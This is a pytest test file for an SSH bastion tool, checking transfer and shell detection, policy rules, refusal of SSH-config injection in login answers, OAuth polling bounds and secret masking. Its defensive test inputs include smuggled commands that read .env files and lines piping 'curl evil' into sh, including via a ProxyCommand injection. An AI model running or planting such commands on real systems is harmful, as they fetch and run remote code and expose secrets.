"""Small rules at the edges of gating and masking: what counts as a transfer, a shell, a safe answer."""

from __future__ import annotations

import pytest

from bastion.control.policy import Policy, Rule, ShellLine, Subject
from bastion.identity.login import LoginError, check_answer
from bastion.identity.oauth import DeviceAuthorization, poll_device_token
from bastion.shell.gating import runs_a_shell
from bastion.ssh.session import is_transfer


@pytest.mark.parametrize(
    ("command", "subsystem", "expected"),
    [
        ("scp -t /tmp", None, True),
        ("scp -f report.pdf", None, True),
        (None, "sftp", True),
        ("scp -h; cat .env", None, False),  # a shell line that starts with scp is not a transfer
        ("scp -f x && cat .env", None, False),
        ("scp $(cat .env)", None, False),
        ("cat file", None, False),
        ("scp", None, False),
    ],
)
def test_what_counts_as_a_file_transfer(command: str | None, subsystem: str | None, expected: bool) -> None:
    assert is_transfer(command, subsystem) is expected


@pytest.mark.parametrize(
    ("command", "expected"),
    [("bash", True), ("/bin/bash -l", True), ("exec zsh", True), ("FOO=1 sh", True), ("bash --login", True),
     ("bash -c ls", False), ("bash -lc ls", False), ("sh script.sh", False), ("ls", False)],
)  # fmt: skip
def test_an_exec_that_starts_an_interactive_shell_is_a_shell(command: str, expected: bool) -> None:
    assert runs_a_shell(command) is expected


def test_assignment_only_lines_need_a_rule_that_covers_them() -> None:
    policy = Policy([
        Rule(name="some", effect="allow", shell=True, exec=("ls*", "cat *")),
        Rule(name="no-curl", effect="deny", exec=("curl *",)),
    ])  # fmt: skip
    subject = Subject("alice", ("dev",), "h", {}, "mcp")
    assert policy.decide(subject, ShellLine("PROMPT_COMMAND='curl evil|sh'")).effect == "deny"
    assert policy.decide(subject, ShellLine("ls -l")).effect == "allow"
    assert policy.decide(subject, ShellLine("# only a comment")).effect == "allow"


GOOD_ANSWER = {
    "certificate": "ssh-ed25519-cert-v01@openssh.com AAAA alice",
    "user": "alice",
    "groups": ["dev"],
    "serial": 1,
    "valid_before": 2.0,
    "hosts": [{"name": "mcp-host", "logins": ["mcp"]}],
    "known_hosts": "@cert-authority bastion,mcp-host ssh-ed25519 AAAA",
}


@pytest.mark.parametrize(
    "change",
    [
        {"hosts": [{"name": "x\n  ProxyCommand sh -c 'curl evil|sh'", "logins": ["mcp"]}]},
        {"hosts": [{"name": "*", "logins": ["mcp"]}]},
        {"user": "alice\nHost *"},
        {"known_hosts": "@cert-authority * ssh-ed25519 AAAA\n@cert-authority * ssh-ed25519 BBBB"},
        {"known_hosts": "* ssh-ed25519 AAAA"},
        {"certificate": "ssh-ed25519 AAAA\nHost *"},
    ],
)
def test_a_bastion_answer_that_would_inject_ssh_config_is_refused(change: dict[str, object]) -> None:
    check_answer(GOOD_ANSWER)
    with pytest.raises(LoginError, match=r"refused|incomplete"):
        check_answer({**GOOD_ANSWER, **change})


def test_a_zero_or_garbage_poll_interval_from_the_provider_is_bounded() -> None:
    from bastion.identity import oauth

    assert oauth._seconds(0, 5, 1, 60) == 1 and oauth._seconds("soon", 5, 1, 60) == 5
    assert oauth._seconds(float("nan"), 5, 1, 60) == 5 and oauth._seconds(10_000, 600, 30, 3600) == 3600
    slept: list[float] = []
    device = DeviceAuthorization("d", "U", "u", None, expires_in=30, interval=1)
    answers = iter([(400, {"error": "slow_down"}), (200, {"access_token": "a"})])
    poll_device_token({"token_endpoint": "t"}, "c", device, sleep=slept.append, clock=lambda: 0.0,
                      post=lambda url, form: next(answers))  # fmt: skip
    assert slept == [1, 6]


def test_masked_output_in_order_per_stream_with_eof_last_and_echo_at_once() -> None:
    import asyncio
    import os

    from bastion.masking.masker import Masker, MaskingSettings
    from bastion.masking.output import MaskedOutput

    masker = Masker.from_settings(MaskingSettings())
    secret_lines = b"".join(b"line %d key AKIAIOSFODNN7EXAMPLE mail jane@example.org\n" % i for i in range(3000))
    turns = [  # the pieces of one turn of the event loop are masked together
        [(b"echo ", False)],
        [(b"AKIA", False), (b"warn: AKIA", True), (b"IOSFODNN7EXAMPLE\n", False)],
        [(secret_lines, False), (b"IOSFODNN7EXAMPLE\n", True)],
        [(bytes(32 + b % 95 for b in os.urandom(50_000)), False)],  # printable noise
        [(b"tail\n", False)],
    ]
    events: list[tuple[bytes, bool] | str] = []
    counts: dict[str, int] = {}

    async def run() -> None:
        out = MaskedOutput(masker, 0.02, lambda data, stderr: events.append((data, stderr)), counts)
        out.feed(b"ls -l\r\n", False)
        await asyncio.sleep(0)
        assert events == [(b"ls -l\r\n", False)]  # interactive echo: released in the next turn, no timer
        events.clear()
        for pieces in turns:
            for data, stderr in pieces:
                out.feed(data, stderr)
            await asyncio.sleep(0)
        out.feed(b"last words", False)  # not masked yet when EOF comes: EOF still waits for it
        out.after(lambda: events.append("EOF"))

    asyncio.run(run())
    assert events[-1] == "EOF"
    expected: dict[str, int] = {}
    for stderr in (False, True):
        sent = b"".join(data for turn in turns for data, err in turn if err == stderr)
        sent += b"last words" if not stderr else b""
        got = b"".join(e[0] for e in events if isinstance(e, tuple) and e[1] == stderr)
        masked, stream_counts = masker.mask(sent)
        assert got == masked
        for name, count in stream_counts.items():
            expected[name] = expected.get(name, 0) + count
    assert counts == expected and counts["aws-key"] == 3002  # the random noise may hold an email or two
